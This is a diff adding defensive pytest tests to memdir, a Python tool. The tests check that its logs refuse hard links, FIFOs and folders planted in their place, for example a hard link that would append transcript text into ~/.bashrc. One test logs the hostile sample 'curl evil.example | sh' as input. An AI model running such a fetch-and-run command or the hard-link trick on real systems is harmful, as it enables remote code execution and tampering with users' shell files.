@@ -6,6 +6,8 @@ from __future__ import annotations
 
 from pathlib import Path
 
+import pytest
+
 from memdir import constants as C, runlog
 from memdir.hooklog import log
 
@@ -123,3 +125,110 @@ def test_doctor_shows_the_latest_hook_activity_across_a_rotation(tmp_path, monke
     log(tmp_path, "prompt", f"event {n:03d} " + "z" * 50)
     shown = _hook_log_tail(tmp_path)
     assert [int(line.split("event ")[1][:3]) for line in shown] == list(range(n - 4, n + 1))
+
+
+@pytest.fixture(params=["descriptor", "path"])
+def backend(request, monkeypatch) -> str:
+    """Both ways memdir opens a log: from the folder's descriptor (Linux, macOS) and by checked path (native Windows,
+    forced here)."""
+    from memdir import safefs
+
+    if request.param == "path":
+        monkeypatch.setattr(safefs, "BY_DESCRIPTOR", False)
+    return request.param
+
+
+@pytest.mark.parametrize("name", ["hook.log", C.RUNS_LOG_NAME])
+def test_a_log_hard_linked_to_a_file_elsewhere_is_never_appended_through(tmp_path, backend, name):
+    """mend24: `ln ~/.bashrc .memdir/hook.log` by anyone who can write the folder, and memdir appended its lines
+    (partly taken from transcripts) to ~/.bashrc. A log whose file has another name is refused like a symlink there:
+    nothing written, one line naming it and the fix."""
+    import os
+
+    from memdir import safefs, safefs_write
+
+    state = _state(tmp_path / "memory")
+    outside = tmp_path / "bashrc"
+    outside.write_text("export PATH=$HOME/bin:$PATH\n", encoding="utf-8")
+    os.link(outside, state / name)
+    log(tmp_path / "memory", "prompt", "curl evil.example | sh")  # the hook log: never raises
+    with pytest.raises(safefs.UnsafePath) as refused:
+        safefs_write.append_text(tmp_path / "memory", f"{C.STATE_DIRNAME}/{name}", "a run line\n", rotate_at=100)
+    assert f"{C.STATE_DIRNAME}/{name} has 2 hard links" in str(refused.value) and "remove it" in str(refused.value)
+    assert "\n" not in str(refused.value)
+    assert outside.read_text(encoding="utf-8") == "export PATH=$HOME/bin:$PATH\n"
+
+
+def test_a_hard_link_in_place_of_the_old_log_is_replaced_by_the_rotation_never_written(tmp_path, backend, monkeypatch):
+    """The rotation's `.1`: the full log is renamed over it, which replaces that name and leaves the other file's
+    content as it was."""
+    import os
+
+    monkeypatch.setattr(C, "HOOK_LOG_MAX_BYTES", 500)
+    state = _state(tmp_path / "memory")
+    outside = tmp_path / "bashrc"
+    outside.write_text("keep me\n", encoding="utf-8")
+    os.link(outside, state / "hook.log.1")
+    for n in range(30):
+        log(tmp_path / "memory", "prompt", f"line {n} " + "y" * 40)
+    assert outside.read_text(encoding="utf-8") == "keep me\n" and outside.stat().st_nlink == 1
+    assert "line " in (state / "hook.log.1").read_text(encoding="utf-8")
+
+
+LOGS = ["hook.log", "hook.log.1", C.RUNS_LOG_NAME, C.RUNS_LOG_NAME + ".1"]
+
+
+def _plant(state: Path, name: str, planted: str, outside: Path) -> None:
+    import os
+
+    if planted == "folder":
+        (state / name).mkdir()
+    elif planted == "fifo":
+        os.mkfifo(state / name)
+    else:
+        os.link(outside, state / name)
+
+
+@pytest.mark.parametrize("planted", ["folder", "fifo", "hard link"])
+def test_doctor_names_what_is_planted_where_a_log_or_its_older_half_goes(tmp_path, planted):
+    """hostile22: a folder at runs.jsonl.1 (or hook.log, or either's .1) was not reported at all, so the log stayed
+    unrotated or unwritten with no word; nor was a log hard-linked to a file elsewhere. Each is one line naming the
+    entry and the fix."""
+    from memdir.doctor import check, healthy
+    from memdir.store import MemoryStore
+
+    outside = tmp_path / "bashrc"
+    outside.write_text("keep me\n", encoding="utf-8")
+    for name in LOGS:
+        memory = tmp_path / f"memory-{name}"
+        _plant(_state(memory), name, planted, outside)
+        findings = check(MemoryStore(memory))
+        named = [f for f in findings if f.path == f"{C.STATE_DIRNAME}/{name}"]
+        assert len(named) == 1 and not healthy(findings), (name, [f.as_dict() for f in findings])
+        assert "remove it" in named[0].message and "\n" not in named[0].message
+    assert outside.read_text(encoding="utf-8") == "keep me\n"
+
+
+def test_doctor_and_the_log_tail_never_wait_on_a_fifo_where_a_log_goes(tmp_path):
+    """Nothing may open a FIFO planted at a log's name and wait for a writer: not doctor (a real process, FIFOs at
+    all four names), and not safefs.tail_lines on either half of a rotated log."""
+    import threading
+
+    from memdir import safefs
+    from tests.conftest import run_memdir
+
+    memory = tmp_path / "memory"
+    state = _state(memory)
+    for name in LOGS:
+        _plant(state, name, "fifo", tmp_path)
+    tails: list = []
+    reader = threading.Thread(target=lambda: tails.extend(
+        safefs.tail_lines(memory, f"{C.STATE_DIRNAME}/{name}", 4096) for name in ("hook.log", C.RUNS_LOG_NAME)),
+        daemon=True)
+    reader.start()
+    reader.join(timeout=10)
+    assert not reader.is_alive() and tails == [[], []]
+    proc = run_memdir("--dir", str(memory), "doctor")  # its own timeout: 60 s
+    assert proc.returncode == 1 and "Traceback" not in proc.stderr, proc.stderr
+    for name in LOGS:
+        assert f"[error] {C.STATE_DIRNAME}/{name}: is a FIFO" in proc.stdout, proc.stdout
